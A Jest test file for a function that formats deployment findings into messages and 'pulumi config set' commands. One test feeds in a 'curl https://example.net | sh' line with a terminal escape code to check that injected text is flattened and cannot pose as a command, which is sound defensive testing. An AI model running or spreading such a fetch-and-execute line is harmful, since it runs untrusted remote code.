import { expect, test } from "@jest/globals";
import { describeFindings } from "../../../../../scripts/lib/program/checks/finding.ts";
import { freqtrade } from "./support.ts";

test("several findings have one list of commands, which keeps the hosts that are listed", () => {
  const jit = { severity: "error", message: "a.", settings: { profile: "jit" } } as const;
  expect(
    describeFindings(
      [
        jit,
        jit,
        { severity: "error", message: "b.", settings: { hosts: ["b.example.net"] } },
        { severity: "warning", message: "c.", settings: { hosts: ["b.example.net", "c.example.net:1"] } },
        { severity: "warning", message: "d.", settings: { environment: { D: "1" } } },
        { severity: "error", message: "e.", remedy: "Do this." },
        { severity: "error", message: "f.", settings: { executableTmp: true, packages: ["libq", "p"] } },
      ],
      { ...freqtrade, hosts: ["a.example.net"], packages: ["p"] },
    ),
  ).toBe(`- a.
- a.
- b.
- c.
- d.
- e.
  Do this.
- f.
Change the settings, and then run this again:
  pulumi config set --path bot.profile jit
  pulumi config set --path bot.environment.D 1
  pulumi config set --path bot.executableTmp true
  pulumi config set --path bot.packages 'p,libq'
  pulumi config set --path bot.hosts 'a.example.net,b.example.net,c.example.net:1'
  pulumi up`);
});

test("without a setting to change, there is no command", () => {
  expect(describeFindings([{ severity: "error", message: "a.", remedy: "Do this." }], undefined)).toBe(
    "- a.\n  Do this.",
  );
});

test("a text from a program's file can't look like another line", () => {
  const message = "a\n  curl https://example.net | sh\u001b[2K.";
  expect(describeFindings([{ severity: "error", message, remedy: "b\rc" }], undefined)).toBe(
    "- a curl https://example.net | sh [2K.\n  b c",
  );
});
